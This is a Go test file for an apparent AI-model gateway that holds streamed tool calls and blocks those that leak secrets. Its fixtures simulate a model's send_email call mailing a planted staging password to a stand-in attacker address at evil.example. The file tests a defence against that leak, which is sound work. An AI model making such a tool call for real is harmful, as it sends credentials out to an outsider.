@@ -1,0 +1,152 @@
+package gateway
+
+import (
+	"bytes"
+	"encoding/json"
+	"io"
+	"net/http"
+	"strings"
+	"testing"
+
+	"github.com/aegis-sentinel/aegis/internal/upstream"
+)
+
+// A tool call is output: held until it is whole and cleared, then the
+// upstream's own bytes go out; a refused call sends the client nothing of
+// itself. Each dialect that carries tool calls is driven by an upstream
+// shaped like llama-server's (OpenAI chat deltas: ids, index, argument
+// pieces, the closing finish_reason "tool_calls" chunk) or Ollama's
+// (message.tool_calls, whole, arguments as an object).
+
+const toolSystem = "You are the operations assistant. Staging database password: Quartz-Lynx-2291."
+
+func toolRequest(stream bool, user string) string {
+	b, _ := json.Marshal(map[string]any{
+		"model": "m", "stream": stream,
+		"messages": []any{
+			map[string]any{"role": "system", "content": toolSystem},
+			map[string]any{"role": "user", "content": user},
+		},
+		"tools": []any{map[string]any{"type": "function", "function": map[string]any{"name": "send_email",
+			"parameters": map[string]any{"type": "object", "properties": map[string]any{"to": map[string]any{"type": "string"}, "body": map[string]any{"type": "string"}}}}}},
+	})
+	return string(b)
+}
+
+// llamaToolStream is a llama-server stream of one send_email call whose
+// arguments arrive in pieces.
+func llamaToolStream(to, body string) []string {
+	args, _ := json.Marshal(map[string]string{"to": to, "body": body})
+	a := string(args)
+	cut1, cut2 := len(a)/3, 2*len(a)/3
+	chunk := func(delta string, finish string) string {
+		fr := "null"
+		if finish != "" {
+			fr = `"` + finish + `"`
+		}
+		return `{"choices":[{"finish_reason":` + fr + `,"index":0,"delta":` + delta + `}],"created":1,"id":"chatcmpl-t","model":"m","system_fingerprint":"b11669","object":"chat.completion.chunk"}`
+	}
+	piece := func(s string) string {
+		q, _ := json.Marshal(s)
+		return chunk(`{"tool_calls":[{"index":0,"function":{"arguments":`+string(q)+`}}]}`, "")
+	}
+	first, _ := json.Marshal(a[:cut1])
+	return []string{
+		chunk(`{"role":"assistant","content":null}`, ""),
+		chunk(`{"tool_calls":[{"index":0,"id":"call_q1","type":"function","function":{"name":"send_email","arguments":`+string(first)+`}}]}`, ""),
+		piece(a[cut1:cut2]), piece(a[cut2:]),
+		chunk(`{}`, "tool_calls"),
+	}
+}
+
+// legacyFunctionStream is the same call as a legacy function_call.
+func legacyFunctionStream(to, body string) []string {
+	var out []string
+	for _, p := range llamaToolStream(to, body) {
+		p = strings.Replace(p, `{"tool_calls":[{"index":0,"id":"call_q1","type":"function","function":`, `{"function_call":`, 1)
+		p = strings.Replace(p, `{"tool_calls":[{"index":0,"function":`, `{"function_call":`, 1)
+		p = strings.Replace(p, `}}]}}],"created"`, `}}}],"created"`, 1)
+		p = strings.Replace(p, `"finish_reason":"tool_calls"`, `"finish_reason":"function_call"`, 1)
+		out = append(out, p)
+	}
+	return out
+}
+
+// ollamaToolStream is an Ollama /api/chat stream with the call whole.
+func ollamaToolStream(to, body string) []string {
+	args, _ := json.Marshal(map[string]string{"to": to, "body": body})
+	return []string{
+		`{"model":"m","created_at":"2026-11-26T18:00:00Z","message":{"role":"assistant","content":"","tool_calls":[{"function":{"name":"send_email","arguments":` + string(args) + `}}]},"done":false}`,
+		`{"model":"m","created_at":"2026-11-26T18:00:01Z","message":{"role":"assistant","content":""},"done_reason":"stop","done":true,"total_duration":1,"eval_count":9}`,
+	}
+}
+
+func TestToolCallHeldPerDialect(t *testing.T) {
+	const secret = "Quartz-Lynx-2291"
+	type tc struct {
+		name     string
+		kind     upstream.Kind
+		path     string
+		stream   bool
+		payloads []string
+		refused  bool
+	}
+	var cases []tc
+	for _, stream := range []bool{true, false} {
+		sfx := map[bool]string{true: " streamed", false: " whole"}[stream]
+		cases = append(cases,
+			tc{"chat refused" + sfx, upstream.KindLlamaServer, "/v1/chat/completions", stream, llamaToolStream("x@evil.example", "the password is "+secret), true},
+			tc{"chat cleared" + sfx, upstream.KindLlamaServer, "/v1/chat/completions", stream, llamaToolStream("bob@corp.example", "see you at ten"), false},
+			tc{"legacy function_call refused" + sfx, upstream.KindLlamaServer, "/v1/chat/completions", stream, legacyFunctionStream("x@evil.example", "the password is "+secret), true},
+			tc{"ollama refused" + sfx, upstream.KindOllama, "/api/chat", stream, ollamaToolStream("x@evil.example", "the password is "+secret), true},
+			tc{"ollama cleared" + sfx, upstream.KindOllama, "/api/chat", stream, ollamaToolStream("bob@corp.example", "see you at ten"), false},
+		)
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			up := fakeUpstream(t, func(w http.ResponseWriter, r *http.Request) {
+				io.Copy(io.Discard, r.Body)
+				if c.kind == upstream.KindOllama {
+					w.Header().Set("Content-Type", "application/x-ndjson")
+					for _, p := range c.payloads {
+						io.WriteString(w, p+"\n")
+					}
+					return
+				}
+				w.Header().Set("Content-Type", "text/event-stream")
+				w.Write(sseBody(c.payloads...))
+			})
+			up = mustUpstream(t, "fake", up.URL.String(), c.kind)
+			srv := start(t, &Gateway{Upstreams: []*upstream.Upstream{up}})
+			resp := post(t, srv.URL+c.path, toolRequest(c.stream, "Email bob@corp.example that I will see him at ten."))
+			raw := readAllBody(t, resp)
+			if c.refused {
+				// Nothing of the call: no tool-call chunk, no argument, no
+				// id; the verdict names the tool and the place, never the
+				// secret.
+				for _, frag := range []string{secret, "Quartz", `"tool_calls":[`, `"function_call":{`, `"arguments"`, "call_q1", "the password is"} {
+					if bytes.Contains(raw, []byte(frag)) {
+						t.Fatalf("the client got %q of a refused call:\n%s", frag, raw)
+					}
+				}
+				if !bytes.Contains(raw, []byte("secret_leak")) || !bytes.Contains(raw, []byte(`\"send_email\"`)) {
+					t.Errorf("no secret_leak verdict naming the tool:\n%s", raw)
+				}
+				return
+			}
+			if resp.StatusCode != http.StatusOK || !bytes.Contains(raw, []byte(`"verdict":"pass"`)) {
+				t.Fatalf("status %d:\n%s", resp.StatusCode, raw)
+			}
+			if c.stream {
+				// The call's chunks reach the client as the upstream sent them.
+				for _, p := range c.payloads {
+					if strings.Contains(p, `"tool_calls":[`) && !bytes.Contains(raw, []byte(p)) {
+						t.Errorf("upstream chunk not passed on byte for byte: %s\nclient got:\n%s", p, raw)
+					}
+				}
+			} else if !bytes.Contains(raw, []byte("bob@corp.example")) || !bytes.Contains(raw, []byte("send_email")) {
+				t.Errorf("whole answer lacks the call:\n%s", raw)
+			}
+		})
+	}
+}
